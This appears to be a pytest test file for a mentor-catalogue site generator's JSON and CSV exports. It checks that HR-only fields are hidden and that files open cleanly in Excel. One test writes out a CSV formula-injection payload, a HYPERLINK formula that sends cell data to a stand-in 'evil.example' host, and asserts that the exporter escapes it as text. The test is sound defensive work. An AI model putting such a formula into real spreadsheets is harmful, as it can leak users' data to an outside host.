"""The catalogue's downloads: what another system reads in mentors.json, what HR sees in Excel."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import yaml

from conftest import REPO, copy_example, edit
from mentorsite.build import BuildOptions, plan
from mentorsite.content import load_content
from mentorsite.i18n.strings import Strings
from mentorsite.project import Paths, theme_dirs
from mentorsite.site.exports import FORMAT_VERSION, mentors_csv, mentors_json
from mentorsite.site.page import Edition
from mentorsite.site.views.profiles import MentorView

TODAY = date(2026, 11, 22)
BOM = b"\xef\xbb\xbf"


def mentor_files(root: Path = REPO) -> dict[str, dict[str, Any]]:
    return {
        path.stem: yaml.safe_load(path.read_text(encoding="utf-8"))
        for path in sorted((root / "content/mentors").glob("*.yml"))
    }


def catalogue(edition: Edition, root: Path = REPO) -> tuple[list[MentorView], set[str]]:
    """The catalogue page's mentor views, and the fields the edition leaves out."""
    content = load_content(Paths.at(root)).content
    assert content is not None
    options = BuildOptions(themes=theme_dirs(), edition=edition, today=TODAY)
    pages = plan(content, Strings.load("da", theme_dirs()), options)
    mentors = next(p for p in pages if p.path == "mentors/index.md").context["mentors"]
    hidden = set() if edition is Edition.HR else set(content.organisation.hr_only)
    return mentors, hidden


def export_json(edition: Edition, root: Path = REPO, **options: Any) -> str:
    mentors, hidden = catalogue(edition, root)
    return mentors_json(
        mentors,
        organisation="Nordlys A/S",
        language="da",
        generated=TODAY,
        hidden=hidden,
        **options,
    ).decode("utf-8")


def read_csv(data: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def by_id(document: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {m["id"]: m for m in document["mentors"]}


def column(rows: list[list[str]], header: str) -> list[str]:
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]


@pytest.fixture(scope="module")
def staff() -> tuple[list[MentorView], set[str]]:
    mentors, hidden = catalogue(Edition.STAFF)
    # The example keeps these HR-only; the tests below rely on it.
    assert hidden == {"level", "phone"}
    return mentors, hidden


@pytest.fixture(scope="module")
def hr() -> tuple[list[MentorView], set[str]]:
    return catalogue(Edition.HR)


# -- mentors.json -----------------------------------------------------------------------------


def test_json_describes_itself_and_lists_every_mentor_in_catalogue_order(staff: Any) -> None:
    mentors, _ = staff
    document = json.loads(export_json(Edition.STAFF))
    assert document["format"] == "mentorsite/mentors"
    assert document["version"] == FORMAT_VERSION == 1
    assert document["organisation"] == "Nordlys A/S"
    assert document["language"] == "da"
    assert document["generated"] == "2026-11-22"
    assert len(document["mentors"]) == 20
    assert [m["id"] for m in document["mentors"]] == [m.id for m in mentors]
    assert set(by_id(document)) == set(mentor_files())


def test_json_is_compact_and_keeps_danish_letters() -> None:
    text = export_json(Edition.STAFF)
    assert "Søren Søgaard" in text and "Karen Ærø" in text
    assert "\\u00f8" not in text
    assert text == json.dumps(json.loads(text), ensure_ascii=False, separators=(",", ":"))
    assert by_id(json.loads(text))["soeren-soegaard"]["name"] == "Søren Søgaard"


def test_json_record_of_a_mentor() -> None:
    files = mentor_files()
    anna = by_id(json.loads(export_json(Edition.HR)))["anna-jensen"]
    source = files["anna-jensen"]
    assert anna["url"] == "mentors/anna-jensen/"
    assert "url_absolute" not in anna
    assert anna["name"] == source["name"] and anna["title"] == source["title"]
    assert anna["unit"]["id"] == source["unit"]
    assert anna["unit"]["path"][-1] == source["unit"] and len(anna["unit"]["path"]) > 1
    assert anna["location"]["id"] == source["location"]
    assert anna["level"]["id"] == source["level"]
    assert [x["id"] for x in anna["languages"]] == source["languages"]
    assert [x["id"] for x in anna["qualifications"]] == source["qualifications"]
    assert [x["id"] for x in anna["models"]] == source["models"]
    assert [x["id"] for x in anna["programmes"]] == source["programmes"]
    assert all(x["name"] for x in anna["qualifications"] + anna["programmes"])
    assert (anna["capacity"], anna["mentees"]) == (source["capacity"], source["mentees"])
    assert anna["email"] == source["email"] and anna["phone"] == source["phone"]
    assert anna["reviewed"] == source["reviewed"].isoformat()
    assert anna["photo"] == "mentors/anna-jensen/photo.jpg"
    assert anna["bio"] == source["bio"]
    assert anna["availability"] in {"free", "later", "full"}


def test_json_availability_matches_the_files() -> None:
    files = mentor_files()
    for mentor in json.loads(export_json(Edition.STAFF))["mentors"]:
        source = files[mentor["id"]]
        start = source.get("available_from")
        assert mentor["available_from"] == (start.isoformat() if start else None)
        if start and start > TODAY:
            assert (mentor["availability"], mentor["free_places"]) == ("later", 0)
        elif source["capacity"] > source.get("mentees", 0):
            assert mentor["availability"] == "free"
            assert mentor["free_places"] == source["capacity"] - source.get("mentees", 0)
        else:
            assert (mentor["availability"], mentor["free_places"]) == ("full", 0)


def test_json_photo_is_null_for_a_mentor_without_one() -> None:
    files = mentor_files()
    mentors = json.loads(export_json(Edition.STAFF))["mentors"]
    without = [m for m in mentors if "photo" not in files[m["id"]]]
    assert without and all(m["photo"] is None for m in without)


def test_json_gives_absolute_urls_when_the_site_url_is_known() -> None:
    text = export_json(Edition.STAFF, site_url="https://mentor.nordlys.example/intra")
    anna = by_id(json.loads(text))["anna-jensen"]
    assert anna["url_absolute"] == "https://mentor.nordlys.example/intra/mentors/anna-jensen/"
    assert anna["url"] == "mentors/anna-jensen/"


def test_staff_json_leaves_out_hr_only_fields() -> None:
    text = export_json(Edition.STAFF)
    for mentor in json.loads(text)["mentors"]:
        assert "level" not in mentor and "phone" not in mentor
        assert "location" in mentor and "email" in mentor and "reviewed" in mentor
    phones = [data["phone"] for data in mentor_files().values() if "phone" in data]
    assert len(phones) >= 10
    for phone in phones:
        assert phone not in text


def test_hr_json_has_hr_only_fields() -> None:
    files = mentor_files()
    for mentor in json.loads(export_json(Edition.HR))["mentors"]:
        assert mentor["phone"] == files[mentor["id"]].get("phone")
        assert mentor["level"]["id"] == files[mentor["id"]]["level"] and mentor["level"]["name"]


def test_a_field_not_hidden_stays_when_a_mentor_has_no_value(hr: Any) -> None:
    mentors, hidden = hr
    mentors = [dataclasses.replace(mentors[0], phone=None), *mentors[1:]]
    document = json.loads(
        mentors_json(
            mentors, organisation="Nordlys A/S", language="da", generated=TODAY, hidden=hidden
        )
    )
    assert document["mentors"][0]["phone"] is None
    rows = read_csv(mentors_csv(mentors, language="da", hidden=hidden), ";")
    assert column(rows, "Telefon")[0] == ""


def test_a_misspelt_hidden_field_is_refused(staff: Any) -> None:
    mentors, _ = staff
    with pytest.raises(ValueError, match="phones"):
        mentors_json(mentors, organisation="x", language="da", generated=TODAY, hidden={"phones"})
    with pytest.raises(ValueError, match="phones"):
        mentors_csv(mentors, language="da", hidden={"phones"})


# -- mentors.csv ------------------------------------------------------------------------------


DANISH_HEADERS = [
    "Id",
    "Navn",
    "Stilling",
    "Enhed",
    "Arbejdssted",
    "Niveau",
    "Sprog",
    "Kan tilbyde",
    "Mentorformer",
    "Programmer",
    "Pladser i alt",
    "Mentees nu",
    "Ledige pladser",
    "Ledig fra",
    "E-mail",
    "Telefon",
    "Profil bekræftet",
    "Profilside",
]


def test_danish_csv_opens_in_excel_with_semicolons_and_danish_letters(hr: Any) -> None:
    mentors, hidden = hr
    data = mentors_csv(mentors, language="da", hidden=hidden)
    assert data.startswith(BOM)
    assert b"\r\n" in data
    rows = read_csv(data, ";")
    assert len(rows) == 21
    assert rows[0] == DANISH_HEADERS
    assert all(len(row) == len(DANISH_HEADERS) for row in rows)
    assert "Søren Søgaard" in column(rows, "Navn")
    assert "Karen Ærø" in column(rows, "Navn")
    assert column(rows, "Id") == [m.id for m in mentors]


def test_csv_cells_hold_what_the_profile_shows(hr: Any) -> None:
    mentors, hidden = hr
    rows = read_csv(mentors_csv(mentors, language="da", hidden=hidden), ";")
    anna = dict(zip(rows[0], rows[1 + [m.id for m in mentors].index("anna-jensen")], strict=True))
    source = mentor_files()["anna-jensen"]
    view = next(m for m in mentors if m.id == "anna-jensen")
    assert anna["Navn"] == source["name"]
    assert anna["Enhed"] == view.unit.name
    assert anna["Kan tilbyde"] == ", ".join(q.name for q in view.qualifications)
    assert anna["Programmer"] == ", ".join(p.label for p in view.programmes)
    assert anna["Pladser i alt"] == str(source["capacity"])
    assert anna["Profil bekræftet"] == source["reviewed"].isoformat()
    assert anna["Profilside"] == "mentors/anna-jensen/"
    # A phone number starting with "+" would be a formula to Excel; it is kept as text.
    assert anna["Telefon"] == "'" + source["phone"]
    # The bio is left to the JSON: no column holds it, no cell spans lines.
    assert not any("\n" in cell for row in rows for cell in row)


def test_english_csv_uses_commas(hr: Any) -> None:
    mentors, hidden = hr
    data = mentors_csv(mentors, language="en", hidden=hidden)
    assert data.startswith(BOM)
    rows = read_csv(data, ",")
    assert len(rows) == 21
    assert rows[0][:3] == ["Id", "Name", "Job title"]
    assert "Phone" in rows[0] and "Level" in rows[0]
    assert all(len(row) == len(rows[0]) for row in rows)
    # Lists of names contain commas: such a cell is quoted, not split.
    assert any(", " in cell for cell in column(rows, "Languages"))


def test_staff_csv_has_no_hr_only_column(staff: Any) -> None:
    mentors, hidden = staff
    data = mentors_csv(mentors, language="da", hidden=hidden)
    rows = read_csv(data, ";")
    assert "Telefon" not in rows[0] and "Niveau" not in rows[0]
    assert rows[0] == [h for h in DANISH_HEADERS if h not in {"Telefon", "Niveau"}]
    text = data.decode("utf-8-sig")
    for source in mentor_files().values():
        assert source["phone"] not in text


def test_a_cell_that_excel_would_run_as_a_formula_is_kept_as_text(staff: Any) -> None:
    mentors, hidden = staff
    attack = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'
    first = dataclasses.replace(mentors[0], name=attack, title="-1+2")
    rows = read_csv(mentors_csv([first, *mentors[1:]], language="da", hidden=hidden), ";")
    assert column(rows, "Navn")[0] == "'" + attack
    assert column(rows, "Stilling")[0] == "'-1+2"
    assert column(rows, "Navn")[1] == mentors[1].name


def test_every_field_hr_may_keep_out_can_be_left_out(tmp_path: Path) -> None:
    project = copy_example(tmp_path / "project")
    edit(
        project / "config/organisation.yml",
        lambda s: s.replace(
            "hr_only: [level, phone]", "hr_only: [location, level, email, phone, reviewed]"
        ),
    )
    mentors, hidden = catalogue(Edition.STAFF, project)
    assert hidden == {"location", "level", "email", "phone", "reviewed"}
    text = export_json(Edition.STAFF, project)
    for mentor in json.loads(text)["mentors"]:
        assert not hidden & set(mentor)
    for source in mentor_files(project).values():
        assert source["email"] not in text
    rows = read_csv(mentors_csv(mentors, language="da", hidden=hidden), ";")
    assert rows[0] == [
        h
        for h in DANISH_HEADERS
        if h not in {"Arbejdssted", "Niveau", "E-mail", "Telefon", "Profil bekræftet"}
    ]


def test_exports_md_documents_every_json_key_and_csv_header(hr: Any) -> None:
    mentors, hidden = hr
    document = json.loads(export_json(Edition.HR, site_url="https://mentor.nordlys.example/"))
    keys = set(document) | {key for m in document["mentors"] for key in m}
    headers = read_csv(mentors_csv(mentors, language="da", hidden=hidden), ";")[0]
    headers += read_csv(mentors_csv(mentors, language="en", hidden=hidden), ",")[0]
    reference = (REPO / "EXPORTS.md").read_text(encoding="utf-8")
    for name in keys | set(headers):
        assert f"`{name}`" in reference
